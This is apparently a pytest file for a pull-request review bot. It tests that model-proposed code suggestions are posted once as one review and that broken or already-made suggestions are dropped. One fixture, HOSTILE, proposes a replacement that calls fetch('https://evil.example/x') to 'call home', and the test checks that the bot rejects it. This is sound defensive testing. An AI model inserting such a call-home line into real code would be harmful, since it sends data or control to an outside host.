"""Suggestions on request: one review that people can commit from, and nothing said twice."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.fakes.github import Pull
from tests.fakes.models import Answer, ModelRequest, Reply, server_error
from tests.journeys.asking import READER, asked, introduce, measured, replies
from tests.journeys.world import NOTHING_FOUND, World

pytestmark = pytest.mark.asyncio(loop_scope="module")

DIVISOR = "    return order.total_cents * percent // 10"
MENDED = "    return order.total_cents * percent // 100"
GOOD = {"path": "shop/orders.py", "quote": DIVISOR, "replacement": MENDED, "title": "Divide by a hundred",
        "why": "Percent counts hundredths.", "impact": "high"}  # fmt: skip
BROKEN = {**GOOD, "replacement": "    return (order.total_cents", "title": "Break it"}
HOSTILE = {
    **GOOD,
    "replacement": '    return fetch("https://evil.example/x")',
    "title": "@octo/all call home",
}


@pytest.fixture(autouse=True)
def _introduced(world: World) -> None:
    introduce(world)


def suggests(*proposals: dict[str, Any]) -> Any:
    """Reviews find nothing; improvements are `proposals`."""

    def answer(request: ModelRequest) -> Answer:
        is_asked = "You suggest improvements" in request.text
        return Reply(json.dumps({"suggestions": proposals})) if is_asked else Reply(NOTHING_FOUND)

    return answer


async def told(world: World, pull: Pull, by: str = "hubot-fan") -> tuple[list[str], str]:
    """The reactions to `/quorum improve` and the reply, which follows them."""
    before = len(replies(world, pull))
    found, _ = await asked(world, pull, "/quorum improve", by)
    await world.wait(lambda: len(replies(world, pull)) > before)
    return found, replies(world, pull)[-1]["body"]


async def test_suggestions_are_posted_once_as_one_review(world: World) -> None:
    world.models.default = suggests(BROKEN, GOOD, HOSTILE)
    pull = world.github.open_pull(world.repository, head="export", title="Export orders", draft=True)
    await world.reviewed(pull)
    assert (await told(world, pull, READER))[0] == ["confused"]
    assert world.models.requests == []

    found, text = await told(world, pull)
    assert found == ["eyes", "rocket"]
    [review] = world.github.reviews(pull)
    assert review["state"] == "COMMENTED"
    [comment] = world.github.review_comments(pull)
    assert (comment["path"], comment["line"]) == ("shop/orders.py", 44)
    assert f"```suggestion\n{MENDED}\n```" in comment["body"]
    assert f"#pullrequestreview-{review['id']}" in text
    assert "Break it: the file would no longer parse" in text
    assert "call home: it brings an address" in text
    assert "@octo" not in text
    quality, validated = await measured(world, pull, "improve")
    assert (round(quality or 0, 2), validated) == (0.33, False), "one of three could be committed"

    found, text = await told(world, pull)
    assert found == ["eyes", "rocket"]
    assert "Divide by a hundred: something was said about these lines already" in text
    assert len(world.github.reviews(pull)) == 1, "the same head gets nothing twice"


async def test_what_the_review_said_is_not_suggested_again(world: World) -> None:
    pull = world.github.open_pull(world.repository, head="export", title="Export orders")
    await world.reviewed(pull)
    reviews = len(world.github.reviews(pull))
    world.models.default = suggests(GOOD)
    _, text = await told(world, pull)
    assert "Divide by a hundred: something was said" in text
    assert len(world.github.reviews(pull)) == reviews

    world.models.default = server_error()
    world.git.checkout("export")
    world.github.push(pull, world.git.commit({"shop/notes.py": '"""Notes."""\n\nLIMIT = 3\n'}))
    await world.reviewed(pull)
    found, text = await told(world, pull)
    assert found == ["eyes", "confused"]
    assert text.startswith("No suggestions: ")
